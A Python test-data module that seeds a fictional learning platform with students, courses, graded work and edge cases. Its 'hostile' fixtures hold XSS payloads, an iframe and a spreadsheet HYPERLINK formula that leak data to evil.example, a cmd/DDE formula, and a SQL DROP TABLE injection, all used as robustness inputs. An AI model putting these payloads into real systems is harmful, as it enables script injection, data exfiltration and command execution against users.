"""The people with stories and their courses."""

from .builder import Builder
from .chance import scatter
from .courses import Course
from .coursework import Assignment, Criterion, keep_attempt
from .family import raise_family
from .happenings import Note, Override

DOZEN, MANY, NEWCOMER, HOSTILE, TEACHER, BIG_TEACHER, ADMIN, OBSERVER, TA, BUSY = range(1, 11)
LINEAR_ALGEBRA_ID = 9_070_000_000_000_417
"""Above 2**53: a client that reads ids as floating point numbers gets another course's id."""
BIG_COURSE_ID = 4301
VISITOR = 20_000_000_000_077
"""A person of another shard of a consortium, who has only a global id."""
TEST_STUDENT = 3999

ESSAY_RUBRIC = (
    Criterion("_8471", "Argument", 10, "The claim is clear and defended throughout."),
    Criterion("_8472", "Evidence", 10, "Sources are cited and weighed."),
    Criterion("_8473", "Style", 5, "Plain and exact."),
)


def tell(build: Builder) -> None:
    """Build everybody and everything."""
    _cast(build)
    biology = _biology(build)
    statistics, history = _statistics(build), _history(build)
    _other_courses(build)
    _weeks(build, [biology, statistics, history])
    _many(build)
    _hostile(build)
    _big_course(build)
    _personal(build, biology)
    _busy(build)
    _test_student(build, biology)
    _visitor(build)
    build.meets(biology, "Safety briefing", (3, 10), (4, 14))
    build.groups(biology, "Bench", (DOZEN, 1001, 1002), range(1003, 1006), range(1040, 1043))
    raise_family(build)  # last, so that the ids of everybody else stay what they are


def _cast(build: Builder) -> None:
    build.person(DOZEN, "dozen", "Maya Lindqvist", "student", pronouns="she/her")
    build.person(MANY, "many", "Jonas Weber", "student", time_zone="Europe/Berlin", locale="de")
    build.person(NEWCOMER, "newcomer", "Aisha Rahman", "student", time_zone="Asia/Karachi")
    build.person(HOSTILE, "hostile", "<script>alert('name')</script> O'Null", "student")
    build.person(TEACHER, "teacher", "Helen Okonkwo", "teacher")
    build.person(BIG_TEACHER, "bigteacher", "Marcus Feld", "teacher", locale="en-GB")
    build.person(ADMIN, "admin", "Ines Castellano", "admin")
    build.person(OBSERVER, "observer", "Karin Lindqvist", "observer", locale="sv")
    build.person(TA, "ta", "Tomás Herrera", "ta", "student", locale="es")
    build.others(60, 20, "teacher")


def _enrolled(
    build: Builder, course: Course, teacher: int, classmates: list[int], *students: int
) -> Course:
    build.enrol(course, teacher, "Teacher")
    half = len(classmates) // len(course.section_ids)
    build.enrol(course, students)
    for index in range(len(course.section_ids)):
        stop = None if index == len(course.section_ids) - 1 else (index + 1) * half
        build.enrol(course, classmates[index * half : stop], section=index)
    return course


def _biology(build: Builder) -> Course:
    course = build.course(
        4101,
        "Biology 101",
        "BIO-101",
        sections=("Monday laboratory", "Thursday laboratory"),
        groups=(("Homework", 30.0), ("Laboratory", 30.0), ("Quizzes", 15.0), ("Exams", 25.0)),
        apply_assignment_group_weights=True,
        syllabus_body="<p>Cells, heredity, evolution. Laboratory attendance is required.</p>",
        public_description="An introduction to the living world.",
        colour="#2f7d4f",
        modules=12,
    )
    build.periods(course, ("First half", -84, -29, 50.0), ("Second half", -28, 35, 50.0))
    _enrolled(build, course, TEACHER, build.others(1001, 63), DOZEN)
    build.enrol(course, TA, "Ta", section=1, limited_to_section=True)
    build.enrol(course, OBSERVER, "Observer", associated_user_id=DOZEN)
    _every_state(build, course)
    build.announces(course, "Microscopes are back", "<p>Room 12 is open again.</p>", -2)
    build.announces(course, "Field trip moved to Friday", "<p>Bring boots.</p>", -9)
    build.happens("Review session", 2, 17, course_id=course.id, location="Hall B")
    build.happens("Mid-term exam", -12, 9, hours=2, course_id=course.id)
    build.reads(course, "Read: how a membrane decides", 3)
    _ungraded(build, course)
    return course


def _ungraded(build: Builder, course: Course) -> None:
    """Add planner items that nobody hands in: topics, practice quizzes and peer reviews."""
    build.discusses(course, "Introduce yourself", -20)
    build.discusses(course, "What surprised you in the laboratory?", -3)
    build.discusses(course, "Bring a question to the lecture", -10, todo=-1)
    build.discusses(course, "Choose a topic for the poster", -6, todo=4)
    build.practises(course, "Practice: cell division", -2)
    build.practises(course, "Practice: heredity", 4)
    build.practises(course, "Practice: the cell", -9, by=DOZEN)
    essay = next(row for row in build.campus.work_of(course.id) if row.name.startswith("Essay"))
    build.reviews(essay, DOZEN, 1001, -5, done=True)
    build.reviews(essay, DOZEN, 1002, 3)


def _every_state(build: Builder, course: Course) -> None:
    """Add one piece of work for each status that a submission can have."""
    _graded_work(build, course)
    _costly_work(build, course)
    _unfinished_work(build, course)
    _quiet_work(build, course)
    _work_ahead(build, course)


def _graded_work(build: Builder, course: Course) -> None:
    """Add graded and posted work with comments, a rubric and an anonymous comment."""
    work, hands_in, graded = build.work, build.hands_in, build.graded
    posted = work(course, "Cell structure worksheet", -40, points_possible=20)
    row = graded(hands_in(posted, DOZEN, -41), 18.5, -37)
    build.comments(row, TEACHER, "Lovely drawings. Label the Golgi next time.", -37)
    build.comments(row, DOZEN, "Thank you, I will.", -36)

    essay = work(
        course,
        "Essay: why we age",
        -30,
        points_possible=25,
        rubric=ESSAY_RUBRIC,
        allowed_attempts=3,
    )
    row = graded(hands_in(essay, DOZEN, -31), 21, -26)
    row.rubric = {"_8471": 10.0, "_8472": 7.5, "_8473": 3.5}
    row.rubric_comments = {"_8472": "Which of the two studies is newer?"}
    build.comments(
        row,
        TEACHER,
        "A strong argument; weigh your second source.",
        -26,
        files=("essay-notes.pdf",),
    )
    build.comments(row, 1001, "I liked your opening.", -27, anonymous=True)


def _costly_work(build: Builder, course: Course) -> None:
    """Add work that is late, not posted yet, and excused."""
    work, hands_in, graded = build.work, build.hands_in, build.graded
    late = work(course, "Osmosis laboratory report", -24, group=1, points_possible=40)
    row = hands_in(late, DOZEN, -21)
    graded(row, 36, -18, deducted=4)

    hidden = work(
        course, "Mid-term exam essay", -12, group=3, points_possible=50, post_manually=True
    )
    row = graded(hands_in(hidden, DOZEN, -13), 45.375, -3, deducted=1.375)
    build.comments(row, TEACHER, "Not to be seen before all grades are posted.", -3)

    excused = work(course, "Herbarium sheet", -20, group=1, points_possible=10)
    row = hands_in(excused, DOZEN, excused=True, grader_id=TEACHER)
    row.workflow_state, row.graded_at = "graded", build.at(-19, 10)
    row.posted_at = row.graded_at


def _unfinished_work(build: Builder, course: Course) -> None:
    """Add work to redo, work handed in again, work with a custom status, and quizzes."""
    work, hands_in, graded = build.work, build.hands_in, build.graded
    redo = work(course, "Enzyme kinetics problem set", -10, points_possible=15)
    row = graded(hands_in(redo, DOZEN, -11), 6, -7)
    row.redo_request = True
    build.comments(row, TEACHER, "Units are missing throughout; please hand it in again.", -7)

    again = work(course, "Punnett squares", -14, points_possible=10)
    row = graded(hands_in(again, DOZEN, -15), 5, -9)
    keep_attempt(row)
    row.submitted_at, row.attempt, row.grade_matches = build.at(-4, 20), 2, False
    row.workflow_state = "submitted"

    custom = work(course, "Oral presentation", -8, points_possible=20)
    hands_in(custom, DOZEN, custom_grade_status_id=1)

    review = work(course, "Quiz: mitosis", -6, group=2, kind="quiz", points_possible=12)
    row = graded(hands_in(review, DOZEN, -6), 8, -5)
    row.workflow_state = "pending_review"

    done = work(course, "Quiz: the cell", -33, group=2, kind="quiz", points_possible=12)
    graded(hands_in(done, DOZEN, -33), 11, -32)


def _quiet_work(build: Builder, course: Course) -> None:
    """Add work that is ungraded, not handed in, on paper or without submission, and discussions."""
    work, hands_in, graded = build.work, build.hands_in, build.graded
    hands_in(work(course, "Photosynthesis worksheet", -1, points_possible=20), DOZEN, -2)
    hands_in(work(course, "Field notes, week 9", -5, points_possible=10), DOZEN)
    hands_in(work(course, "Field notes, week 5", -32, points_possible=10), DOZEN)
    old = work(course, "Reading response 1", -60, points_possible=5)
    row = graded(hands_in(old, DOZEN), 0, -50)
    row.late_policy_status = "missing"

    paper = work(course, "Dissection notebook", -3, group=1, kind="paper", points_possible=30)
    hands_in(paper, DOZEN)
    none = work(course, "Class participation", 20, kind="none", points_possible=10)
    hands_in(none, DOZEN)
    genes = "Discussion: should we edit genes?"
    build.checkpoints(work(course, genes, None, kind="discussion", points_possible=10), 1, 3)
    talk = work(course, "Discussion: what is life?", -45, kind="discussion", points_possible=10)
    graded(hands_in(talk, DOZEN, -46, late_policy_status="late"), 10, -43)


def _work_ahead(build: Builder, course: Course) -> None:
    """Add work that is due, opens later, or is locked, extended, undated, hidden or for others."""
    work, hands_in = build.work, build.hands_in
    due = work(course, "Heredity problem set", 2, points_possible=20)
    due.due_dates[DOZEN] = build.due(4)
    work(course, "Quiz: heredity", 5, group=2, kind="quiz", points_possible=12)
    evolution = work(
        course,
        "Evolution laboratory",
        9,
        group=1,
        points_possible=40,
        unlock_at=build.at(6),
        lock_at=build.due(10),
    )
    build.section_due(evolution, course, 1, 10)
    locked = work(course, "Reading response 4", -16, points_possible=5, lock_at=build.due(-15))
    hands_in(locked, DOZEN)
    extended = work(course, "Reading response 5", -2, points_possible=5)
    hands_in(extended, DOZEN, late_policy_status="none")
    work(course, "Final exam", 30, group=3, kind="paper", points_possible=100)
    work(course, "Portfolio of the term", None, kind="url", points_possible=15)
    work(course, "Surprise question", 12, published=False, points_possible=5)
    work(course, "Make-up laboratory", 8, group=1, only_for=frozenset({1001, 1002}))


def _statistics(build: Builder) -> Course:
    course = build.course(
        4102,
        "Statistics",
        "STAT-210",
        groups=(("Problem sets", 60.0), ("Project", 40.0), ("Challenges", 10.0)),
        apply_assignment_group_weights=True,
        colour="#1f5fa8",
        modules=8,
    )
    _enrolled(build, course, TEACHER, build.others(1032, 63), DOZEN)
    build.enrol(course, OBSERVER, "Observer", associated_user_id=DOZEN)
    for week, title in enumerate(("Distributions", "Sampling", "Estimation", "Tests")):
        made = build.work(course, f"Problem set {week + 1}: {title}", -35 + 14 * week)
        _does(build, made, -35 + 14 * week, (9.5, 8, None, None)[week])
    build.work(course, "Project proposal", 11, group=1, points_possible=30)
    # The weights add up to 110 % because the challenges are extra credit.
    challenge = build.work(course, "Challenge: shared birthdays", -19, group=2)
    _does(build, challenge, -19, 6)
    build.drops(course, lowest=1, highest=1)
    build.announces(course, "Office hours on Tuesday", "<p>Room 310, from four.</p>", -1)
    return course


def _history(build: Builder) -> Course:
    course = build.course(
        4103,
        "World History since 1500",
        "HIST-120",
        hide_final_grades=True,
        colour="#8a4b08",
    )
    _enrolled(build, course, TEACHER, build.others(1064, 63), DOZEN)
    for index, (day, score) in enumerate(((-42, 22), (-21, 23.5), (-4, None), (6, None))):
        made = build.work(course, f"Source analysis {index + 1}", day, points_possible=25)
        _does(build, made, day, score)
    build.announces(course, "The archive visit", "<p>We meet at the gate.</p>", -6)
    return course


def _other_courses(build: Builder) -> None:
    small = build.others(1200, 24)
    _english(build, small)
    _algebra(build, small)
    _programming(build, small)
    _chemistry(build, small)
    _past_courses(build, small)
    _courses_to_come(build, small)


def _english(build: Builder, small: list[int]) -> None:
    """Add a course with letter grades from a scheme based on points."""
    score: float | None
    english = build.course(
        4104,
        "English Composition",
        "ENGL-105",
        colour="#7a3e9d",
        grading_standard=True,
        scaling_factor=4.0,
    )
    _enrolled(build, english, 61, small[:18], DOZEN)
    for index, (day, score) in enumerate(((-50, 86), (-29, 91), (-8, None), (3, None), (13, None))):
        made = build.work(
            english,
            f"Draft {index + 1}",
            day,
            points_possible=100,
            grading_type="letter_grade",
            rubric=ESSAY_RUBRIC,
        )
        _does(build, made, day, score)


def _algebra(build: Builder, small: list[int]) -> None:
    """Add a course with percentages and grading periods, with ids beyond 2**53."""
    score: float | None
    algebra = build.course(
        LINEAR_ALGEBRA_ID, "Linear Algebra", "MATH-220", colour="#b3261e", modules=5
    )
    _enrolled(build, algebra, 62, small[4:20], DOZEN, TA)
    build.periods(algebra, ("September to October", -84, -16, None), ("Later", -15, 35, None))
    for index, (day, score) in enumerate(((-23, 9.5), (-9, 8), (0, None), (7, None))):
        made = build.work(
            algebra,
            f"Matrices, sheet {index + 1}",
            day,
            grading_type="percent",
            assignment_id=LINEAR_ALGEBRA_ID + 2000 + 2 * index,
        )
        _does(build, made, day, score)


def _programming(build: Builder, small: list[int]) -> None:
    """Add a course with two sections, pass or fail, and a dropped exercise."""
    score: float | None
    programming = build.course(
        4106,
        "Introduction to Programming",
        "CS-101",
        sections=("Lecture", "Laboratory 3"),
        colour="#0b7285",
    )
    _enrolled(build, programming, 63, small[2:22], DOZEN)
    build.enrol(programming, DOZEN, section=1)
    for index, (day, score) in enumerate(((-31, 8), (-17, 7), (-3, 6.5), (4, None), (10, None))):
        made = build.work(programming, f"Exercise {index + 1}", day, kind="url", points_possible=8)
        _does(build, made, day, score)
    tools = build.work(
        programming, "Install the tools", -60, grading_type="pass_fail", points_possible=1
    )
    _does(build, tools, -60, 1)
    build.drops(programming, lowest=1, never=[tools])


def _chemistry(build: Builder, small: list[int]) -> None:
    """Add a course with letters only: it restricts quantitative data."""
    score: float | None
    chemistry = build.course(
        4107,
        "Chemistry",
        "CHEM-110",
        restrict_quantitative_data=True,
        grading_standard=True,
        colour="#c2255c",
    )
    _enrolled(build, chemistry, 64, small[:20], DOZEN)
    for index, (day, score) in enumerate(((-27, 18), (-13, 16.5), (1, None), (8, None))):
        made = build.work(chemistry, f"Titration {index + 1}", day, points_possible=20)
        _does(build, made, day, score)


def _past_courses(build: Builder, small: list[int]) -> None:
    """Add three courses that are over: listed, concluded, and closed to students."""
    spanish = build.course(4108, "Spanish II", "SPAN-102", term="past", colour="#a36a00")
    _enrolled(build, spanish, 65, small[:10], DOZEN)
    for index in range(3):
        made = build.work(spanish, f"Redacción {index + 1}", -260 + 20 * index)
        _does(build, made, -260 + 20 * index, 8.5 + index / 2)

    philosophy = build.course(
        4109, "Philosophy of Science", "PHIL-201", term="past", workflow_state="completed"
    )
    build.enrol(philosophy, 66, "Teacher", state="completed")
    build.enrol(philosophy, DOZEN, state="completed")
    made = build.work(philosophy, "Essay: what a theory is", -230, points_possible=50)
    _does(build, made, -230, 46)

    physics = build.course(
        4110, "Physics I", "PHYS-101", term="past", restrict_student_past_view=True
    )
    _enrolled(build, physics, 67, small[:6], DOZEN)


def _courses_to_come(build: Builder, small: list[int]) -> None:
    """Add a course of the next term, and one with an open invitation."""
    art = build.course(4111, "Art History", "ART-110", term="next", colour="#5c5f66")
    _enrolled(build, art, 68, small[:6], DOZEN)
    build.work(art, "Museum visit", 60)

    music = build.course(4112, "Music Theory", "MUS-100", colour="#4263eb")
    build.enrol(music, 69, "Teacher")
    build.enrol(music, DOZEN, state="invited")


def _weeks(build: Builder, courses: list[Course]) -> None:
    """Add small regular work, so that past and coming weeks look realistic."""
    for course in courses:
        for week in range(-6, 3):
            day = week * 7 + 1 + scatter(course.id, week) % 5
            made = build.work(
                course, f"Weekly check, week {week + 12}", day, kind="quiz", points_possible=5
            )
            if (course.id + week) % 11:
                _does(build, made, day, (5, 4.5, 4, 3.5)[scatter(course.id, week, 1) % 4])


def _does(build: Builder, work: Assignment, day: int, score: float | None = None) -> None:
    """Let dozen hand past work in the day before it was due, and have it graded the day after."""
    if day < 0:
        row = build.hands_in(work, DOZEN, day - 1)
        if score is not None:
            build.graded(row, score, day + 1 if day < -1 else day)


_SUBJECTS_TEXT = (
    "Algebra Anatomy Anthropology Archaeology Architecture Astronomy Botany Calculus Ceramics "
    "Cinema Classics Dance Drama Ecology Economics Ethics Finance French Genetics Geography "
    "Geology German Greek Informatics Italian Journalism Latin Law Linguistics Literature Logic "
    "Marketing Mechanics Meteorology Music Nutrition Optics Painting Poetry Psychology Rhetoric "
    "Russian Sculpture Sociology Theology Zoology"
)
_SUBJECTS = _SUBJECTS_TEXT.split()


def _many(build: Builder) -> None:
    for index in range(137):
        subject = _SUBJECTS[index % len(_SUBJECTS)]
        level = 1 + index // len(_SUBJECTS)
        course = build.course(
            5001 + index, f"{subject} {level}", f"{subject[:4].upper()}-{level}{index:03d}"
        )
        build.enrol(course, 60 + index % 20, "Teacher")
        build.enrol(course, MANY)
        build.work(course, "Essay", -10 + index % 7, points_possible=20)
        build.work(course, "Worksheet", -3 + index % 11)
        build.work(course, "Quiz", 15 + index % 10, kind="quiz")


RIGHT_TO_LEFT = "\u202eعنوان عربي طويل\u202c שלום"
UNBROKEN = "W" * 255
HOSTILE_TEXTS = (
    "<script>alert('title')</script>",
    "<img src=x onerror=\"alert('img')\">",
    UNBROKEN,
    RIGHT_TO_LEFT,
    "🧪👩🏽‍🔬🏳️‍🌈 e\u0301 \u200b",
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    '\'); DROP TABLE students;-- "quotes" & ampersands',
    "null",
    "{{ 7 * 7 }} {% raw %} ${7*7}",
    "-1+cmd|' /C calc'!A0",
    "</td></table><h1>Broken</h1>",
    "  ",
)
HOSTILE_HTML = (
    '<p onclick="alert(1)">Text <a href="javascript:alert(\'link\')">link</a>'
    "<script>alert('body')</script><style>*{display:none}</style>"
    '<iframe src="https://evil.example"></iframe><form action="/logout" method="post">'
    "<button>Sign out</button></form><img src=x onerror=\"alert('img')\">"
    '<a href="/courses/1">relative</a> <b>bold</b></p>'
)


def _hostile(build: Builder) -> None:
    names = ("<script>alert('course')</script>", UNBROKEN, RIGHT_TO_LEFT, "=1+1", "null")
    for index, name in enumerate(names):
        course = build.course(
            6001 + index, name, name[:30], syllabus_body=HOSTILE_HTML, public_description=name
        )
        build.enrol(course, 60, "Teacher")
        build.enrol(course, HOSTILE)
        for place, title in enumerate(HOSTILE_TEXTS if index == 0 else HOSTILE_TEXTS[index::4]):
            made = build.work(
                course,
                title,
                place * 2 - 8,
                description=None if title == "null" else HOSTILE_HTML,
                points_possible=10,
            )
            if place % 3 == 0:
                row = build.hands_in(made, HOSTILE, min(place * 2 - 12, -1))
                row.body = HOSTILE_HTML
                if place * 2 - 9 < 0:
                    build.graded(row, 7.5, place * 2 - 9)
                build.comments(row, 60, title, -1)
        build.announces(course, name, HOSTILE_HTML, -1 - index)
        build.happens(name, index, 10, course_id=course.id, description=HOSTILE_HTML)
    campus = build.campus
    campus.nicknames[HOSTILE][6004] = '=HYPERLINK("https://evil.example")'
    campus.colours[HOSTILE]["course_6001"] = "#ff00ff"


def _big_course(build: Builder) -> None:
    course = build.course(
        BIG_COURSE_ID,
        "Introduction to Psychology",
        "PSY-100",
        sections=("Morning", "Noon", "Afternoon", "Evening"),
        groups=(("Weekly work", 50.0), ("Essays", 30.0), ("Exams", 20.0)),
        apply_assignment_group_weights=True,
        colour="#6741d9",
    )
    build.enrol(course, BIG_TEACHER, "Teacher")
    for section in range(4):
        build.enrol(course, build.others(2001 + 160 * section, 160), section=section)
    for index in range(40):
        group = 2 if index % 13 == 12 else 1 if index % 5 == 4 else 0
        _psychology(build, course, index, group)


def _psychology(build: Builder, course: Course, index: int, group: int) -> Assignment:
    title = ("Week", "Essay", "Exam")[group]
    kind = ("quiz" if index % 3 == 0 else "online", "online", "paper")[group]
    return build.work(
        course,
        f"{title} {index + 1}",
        -76 + index * 2.5,
        group=group,
        kind=kind,
        points_possible=(10, 50, 100)[group],
        rubric=ESSAY_RUBRIC if group == 1 else (),
    )


def _personal(build: Builder, biology: Course) -> None:
    """Add what dozen arranged: favorites, nicknames, colors, notes, done marks and events."""
    campus = build.campus
    campus.favourites[DOZEN] = [4101, 4102, 4103, 4104, LINEAR_ALGEBRA_ID, 4106, 4107]
    campus.nicknames[DOZEN] = {4104: "Writing"}
    campus.colours[DOZEN] = {
        f"course_{course.id}": course.colour
        for course in campus.courses.values()
        if course.colour and campus.between(DOZEN, course.id)
    }
    campus.positions[DOZEN] = {"course_4102": 0, "course_4101": 1}
    campus.unread_conversations = {DOZEN: 3, TEACHER: 12}
    _notes(build, biology)
    _done_mark(build, biology)
    build.happens("Dentist", 2, 15, user_id=DOZEN)
    build.happens("Choir weekend", 5, 0, hours=24, user_id=DOZEN, all_day=True)
    build.happens("Department meeting", 1, 9, user_id=TEACHER)


def _notes(build: Builder, biology: Course) -> None:
    for number, (title, day, course_id) in enumerate(
        (
            ("Return library books", 1, None),
            ("Form a study group", 3, biology.id),
            ("Tidy notes", -4, None),
        ),
        90_001,
    ):
        build.campus.notes[number] = Note(
            number,
            DOZEN,
            title,
            "Ask at the desk." if course_id is None else None,
            build.at(day, 12),
            course_id,
            build.at(-8, 9),
            build.at(-8, 9),
        )


def _done_mark(build: Builder, biology: Course) -> None:
    campus = build.campus
    work = next(row for row in campus.work_of(biology.id) if row.name == "Dissection notebook")
    campus.overrides[95_001] = Override(
        95_001,
        DOZEN,
        "assignment",
        work.id,
        True,
        False,
        build.at(-3, 15),
        build.at(-3, 15),
        assignment_id=work.id,
    )


def _test_student(build: Builder, course: Course) -> None:
    """Add the test student that "student view" makes, enrolled in every section (course.rb)."""
    person = build.person(TEST_STUDENT, "", "Test Student", "student", login="test", fake=True)
    for section in range(len(course.section_ids)):
        build.enrol(course, person.id, "StudentView", section=section)


def _visitor(build: Builder) -> None:
    build.person(VISITOR, "visitor", "Lena Sandoval", "student")
    course = build.course(4113, "Consortium Seminar", "CONS-300")
    build.enrol(course, 61, "Teacher")
    build.enrol(course, VISITOR)
    build.work(course, "Position paper", 6, points_possible=20)


def _busy(build: Builder) -> None:
    """Add 37 courses and 260 planner items, from 20 days ago to 12 days ahead."""
    build.person(BUSY, "busy", "Noor van Dijk", "student", time_zone="Europe/Amsterdam")
    for index in range(37):
        course = build.course(7001 + index, f"Seminar {index + 1}", f"SEM-{index + 1:02d}")
        build.enrol(course, 60 + index % 20, "Teacher")
        build.enrol(course, BUSY)
        for place in range(7):
            build.work(
                course,
                f"Task {index + 1}.{place + 1}",
                (index * 7 + place) * 33 // 259 - 20,
                kind=("online", "quiz", "discussion")[place % 3],
                points_possible=10,
            )
    build.happens("Orientation walk", 1, 10, user_id=BUSY)
